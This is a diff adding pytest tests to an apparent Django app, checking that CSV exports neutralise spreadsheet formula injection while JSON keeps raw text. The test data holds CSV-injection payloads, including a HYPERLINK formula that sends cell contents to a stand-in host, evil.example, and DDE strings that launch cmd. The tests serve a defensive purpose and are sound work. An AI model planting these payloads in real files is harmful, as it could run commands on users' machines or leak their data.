@@ -14,10 +14,10 @@ from django.contrib.auth.models import Group, User
 from django.core.files.storage import default_storage
 from rest_framework.test import APIClient
 
+from core.roles import RESEARCHER_GROUP
 from processing import services
 from processing.export import SECTIONS
 from processing.models import CampaignExport, LabelGroup
-from processing.permissions import RESEARCHER_GROUP
 from tests.factories import CharacteristicFactory, make_finished_round, make_image_items
 
 pytestmark = pytest.mark.django_db
@@ -142,3 +142,95 @@ def test_export_api_runs_the_task_and_serves_the_file(
     assert anon.get(status["status_url"]).status_code == 403
     assert anon.get(status["download_url"]).status_code == 403
     assert researcher.get("/api/processing/exports/nope/download/").status_code == 404
+
+
+# --- CSV injection (OWASP): text cells that a spreadsheet would run are neutralised ----------
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+)
+
+
+def _png(size: int = 96) -> bytes:
+    from PIL import Image
+
+    buf = io.BytesIO()
+    Image.new("RGB", (size, size), (120, 30, 200)).save(buf, format="PNG")
+    return buf.getvalue()
+
+
+def test_csv_cells_are_neutralised_while_json_keeps_the_raw_text(played, hashing):
+    from explanations.services import campaign_image_add
+
+    items = make_image_items(campaign=played, true_class="English springer")
+    rnd = make_finished_round(cluster_map=items[0], texts=list(FORMULAS))
+    services.round_process(round_id=rnd.pk, embedder=hashing)
+    group = LabelGroup.objects.get(canonical="nose")
+    services.label_group_rename(group=group, name="=cmd|'/C calc'!A0", embedder=hashing)
+    LabelGroup.objects.filter(canonical="whiskers").update(score=-1.5)
+    image = campaign_image_add(
+        campaign=played, content=_png(), original_name="=HYPERLINK(1).png", enqueue=False
+    )
+
+    export = services.campaign_export_create(campaign=played, enqueue=False)
+    assert services.campaign_export_run(export_id=export.pk) == "done"
+    data, tables = read_export(CampaignExport.objects.get(pk=export.pk))
+
+    # characteristics: JSON raw, CSV prefixed with a single quote (the csv module reads it back)
+    raw_texts = {c["text"] for c in data["characteristics"]}
+    csv_texts = {c["text"] for c in tables["characteristics"]}
+    for text in FORMULAS:
+        assert text in raw_texts
+        assert "'" + text in csv_texts and text not in csv_texts
+    assert "floppy ears" in csv_texts  # plain text is left alone
+    # label group names
+    assert "=cmd|'/C calc'!A0" in {g["label"] for g in data["label_groups"]}
+    csv_labels = {g["label"] for g in tables["label_groups"]}
+    assert "'=cmd|'/C calc'!A0" in csv_labels and "=cmd|'/C calc'!A0" not in csv_labels
+    # uploaded image file names
+    assert {i["original_name"] for i in data["images"] if i["id"] == image.pk} == {
+        "=HYPERLINK(1).png"
+    }
+    assert {i["original_name"] for i in tables["images"] if int(i["id"]) == image.pk} == {
+        "'=HYPERLINK(1).png"
+    }
+    # numbers stay numbers: a negative score is written as a number, not neutralised
+    whiskers = next(g for g in tables["label_groups"] if g["canonical"] == "whiskers")
+    assert whiskers["score"] == "-1.5"
+    assert next(g for g in data["label_groups"] if g["canonical"] == "whiskers")["score"] == -1.5
+    # no text cell anywhere in the CSVs begins with a formula trigger
+    for name, rows in tables.items():
+        for row in rows:
+            for column, cell in row.items():
+                if cell and cell.lstrip()[:1] in ("=", "+", "@", "\t", "\r"):
+                    raise AssertionError(f"{name}.{column}: {cell!r}")
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-x", "'-x"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        (" \u00a0=x", "' \u00a0=x"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (None, ""),
+        (-0.5, -0.5),
+        (-3, -3),
+        (["=x"], '["=x"]'),
+    ],
+)
+def test_csv_value(value, cell):
+    from processing.export import _csv_value
+
+    assert _csv_value(value) == cell
